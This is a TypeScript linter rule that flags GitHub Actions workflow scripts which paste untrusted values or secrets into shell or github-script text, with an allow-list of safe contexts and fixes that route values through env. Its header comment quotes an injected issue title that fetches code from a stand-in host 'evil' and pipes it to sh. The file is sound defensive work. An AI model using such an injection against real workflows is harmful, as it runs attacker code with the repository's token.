/**
 * No expression inside a `run:` script (or an actions/github-script `script:`) may read a value
 * that someone outside the maintainers controls. The runner pastes the value into the script text
 * before the shell parses it, so an issue titled `"; curl evil | sh; "` runs that command with the
 * job's token. Values go through `env:` instead, where the shell treats them as data.
 * https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
 *
 * This is an allow-list: only values fixed by GitHub or by the workflow's own author may appear.
 */
import { isScalar } from 'yaml';
import type { Node } from 'yaml';
import type { Violation } from './violation.ts';
import { contextReferences, findExpressions } from './expressions.ts';
import { pairOf, stepsOf, stringOf, valueOf } from './workflow-file.ts';
import type { StepEntry, WorkflowFile } from './workflow-file.ts';

const RULE = 'untrusted-expression';

/** `github.*` values that GitHub sets and nobody outside can shape into shell syntax. */
const SAFE_GITHUB = new Set([
  'action',
  'action_path',
  'actor',
  'actor_id',
  'api_url',
  'event_name',
  'graphql_url',
  'job',
  'repository',
  'repository_id',
  'repository_owner',
  'repository_owner_id',
  'retention_days',
  'run_attempt',
  'run_id',
  'run_number',
  'server_url',
  'sha',
  'triggering_actor',
  'workflow',
  'workflow_sha',
  'workspace',
]);

/** Contexts whose values come from GitHub's runner or the workflow file itself. */
const SAFE_ROOTS = new Set(['runner', 'strategy', 'job', 'matrix', 'vars']);

const CONTEXTS = new Set(['github', 'env', 'vars', 'job', 'jobs', 'steps', 'runner', 'secrets', 'strategy', 'matrix', 'needs', 'inputs']);

function envName(reference: string): string {
  const last = reference.split(/[.[\]'"]+/).filter(Boolean).at(-1) ?? 'value';
  return last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase().replace(/^(\d)/, '_$1');
}

/** Why a reference may not be pasted into a script, or undefined when it may. */
function problemWith(reference: string): { message: string; fix: string } | undefined {
  const [root = '', second] = reference.split(/[.[]/);
  if (!CONTEXTS.has(root)) return undefined;
  if (SAFE_ROOTS.has(root)) return undefined;
  if (root === 'github' && second !== undefined && SAFE_GITHUB.has(second) && !reference.includes('[')) {
    return undefined;
  }
  const name = envName(reference);
  if (root === 'secrets' || reference === 'github.token') {
    return {
      message: `\${{ ${reference} }} writes a secret into the script file`,
      fix: `pass it through env: (env: { ${name}: \${{ ${reference} }} }) and read "$${name}"`,
    };
  }
  if (root === 'env') {
    return {
      message: `\${{ ${reference} }} pastes the variable's value into the script text`,
      fix: `read it as "$${name}" in the shell instead`,
    };
  }
  return {
    message: `\${{ ${reference} }} pastes text that others can write into the script, where quotes or $(…) in it run as commands`,
    fix: `pass it through env: (env: { ${name}: \${{ ${reference} }} }) and use "$${name}"`,
  };
}

function scriptsOf(step: StepEntry): Array<{ key: string; node: Node }> {
  const scripts: Array<{ key: string; node: Node }> = [];
  const run = valueOf(step.step, 'run');
  if (isScalar(run)) scripts.push({ key: 'run', node: run });
  // actions/github-script evaluates `script:` as JavaScript after the same pasting.
  if (/^actions\/github-script@/.test(stringOf(step.step, 'uses')?.trim() ?? '')) {
    const script = valueOf(valueOf(step.step, 'with'), 'script');
    if (isScalar(script)) scripts.push({ key: 'script', node: script });
  }
  return scripts;
}

export function checkUntrustedExpressions(file: WorkflowFile): Violation[] {
  const violations: Violation[] = [];
  for (const step of stepsOf(file)) {
    if (!pairOf(step.step, 'run') && !pairOf(step.step, 'uses')) continue;
    for (const { key, node } of scriptsOf(step)) {
      const [start, end] = node.range ?? [0, 0];
      const raw = file.text.slice(start, end);
      for (const expression of findExpressions(raw)) {
        const line = file.lineAt(start + expression.offset);
        if (expression.body === undefined) {
          violations.push({
            file: file.path,
            line,
            rule: RULE,
            message: `an expression in ${key}: opens with \${{ and is never closed`,
            fix: 'close it with }} on the same line',
          });
          continue;
        }
        const seen = new Set<string>();
        for (const reference of contextReferences(expression.body)) {
          const problem = problemWith(reference);
          if (!problem || seen.has(reference)) continue;
          seen.add(reference);
          violations.push({ file: file.path, line, rule: RULE, message: `${key}: ${problem.message}`, fix: problem.fix });
        }
      }
    }
  }
  return violations;
}
